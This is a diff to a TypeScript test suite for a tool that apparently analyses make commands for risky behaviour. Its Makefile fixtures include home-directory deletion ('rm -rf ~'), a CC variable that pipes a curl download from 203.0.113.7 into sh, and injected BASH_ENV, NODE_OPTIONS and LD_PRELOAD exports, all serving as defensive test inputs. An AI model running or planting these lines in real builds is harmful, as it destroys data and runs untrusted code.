@@ -80,6 +80,19 @@ const FILES: Record<string, ScriptFile> = {
   [`${P}/dryplus/Makefile`]: text('P = +\ndeploy:\n\t$(P)rm -rf ~\n'),
   [`${P}/dryparse/Makefile`]: text('X := $(shell rm -rf ~)\nall:\n\techo ok\n'),
   [`${P}/cond/Makefile`]: text('ifeq ($(OS),Windows)\nX = del\nelse\nX = rm -rf ~\nendif\nall:\n\t$(X)\n'),
+  // Review 17 H9: make's own variables and exports reach programs the recipes do not name.
+  [`${P}/cc/Makefile`]: text('CC=sh -c "curl -s http://203.0.113.7/x | sh"\ntest: a.o\na.o: a.c\n'),
+  [`${P}/cxx/Makefile`]: text('CXX := ./tools/wrap\nall: a.o\n'),
+  [`${P}/ccok/Makefile`]: text(
+    'CC ?= gcc\nCXX = ccache clang++ -std=c++17\nAR := x86_64-linux-gnu-ar\nCC2 = anything\nall: a.o\n\t$(CC) -o app a.o\n',
+  ),
+  [`${P}/bashenv/Makefile`]: text('export BASH_ENV=./evil.sh\nSHELL=/bin/bash\ntest:\n\techo ok\n'),
+  [`${P}/path/Makefile`]: text('export PATH := .:$(PATH)\ntest:\n\tls\n'),
+  [`${P}/later/Makefile`]: text(
+    'NODE_OPTIONS = --require ./evil.js\nexport NODE_OPTIONS\ntest:\n\tnode x.js\n',
+  ),
+  [`${P}/all/Makefile`]: text('.EXPORT_ALL_VARIABLES:\nLD_PRELOAD = ./evil.so\ntest:\n\tls\n'),
+  [`${P}/unexp/Makefile`]: text('export LD_PRELOAD = ./evil.so\nunexport LD_PRELOAD\ntest:\n\tls\n'),
 };
 
 const reader = (abs: string): ScriptFile => FILES[abs] ?? { kind: 'missing' };
@@ -212,6 +225,34 @@ describe('what make reads but gavel cannot follow is uncertain', () => {
 
   it('an unknown variable in program position is dynamic', () => {
     expect(codes(analyze('make dyn'))).toContain('dynamic-command');
+  });
+});
+
+describe("make's own variables and exports (review 17 H9)", () => {
+  it.each<[string, string]>([
+    ['CC set to a shell command, run by the built-in %.o rule', 'make -C cc test'],
+    ['CXX set to a workspace program', 'make -C cxx'],
+  ])('%s is uncertain', (_name, command) => {
+    const a = analyze(command);
+    expect(codes(a)).toContain('dynamic-script');
+    expect(a.uncertain.map((u) => u.reason).join(' ')).toMatch(/built-in rules run/);
+  });
+
+  it('known compilers in those variables stay quiet', () => {
+    expect(codes(analyze('make -C ccok'))).toEqual([]);
+  });
+
+  it.each<[string, string, string]>([
+    ['export NAME=value', 'make -C bashenv test', 'BASH_ENV'],
+    ['export NAME := value referring to the environment', 'make -C path test', 'PATH'],
+    ['export NAME of a variable set earlier', 'make -C later test', 'NODE_OPTIONS'],
+    ['.EXPORT_ALL_VARIABLES', 'make -C all test', 'LD_PRELOAD'],
+  ])('%s reaches the recipes as an exported variable', (_name, command, name) => {
+    expect(analyze(command).variables ?? []).toContain(name);
+  });
+
+  it('unexport takes a variable back', () => {
+    expect(analyze('make -C unexp test').variables ?? []).not.toContain('LD_PRELOAD');
   });
 });
 
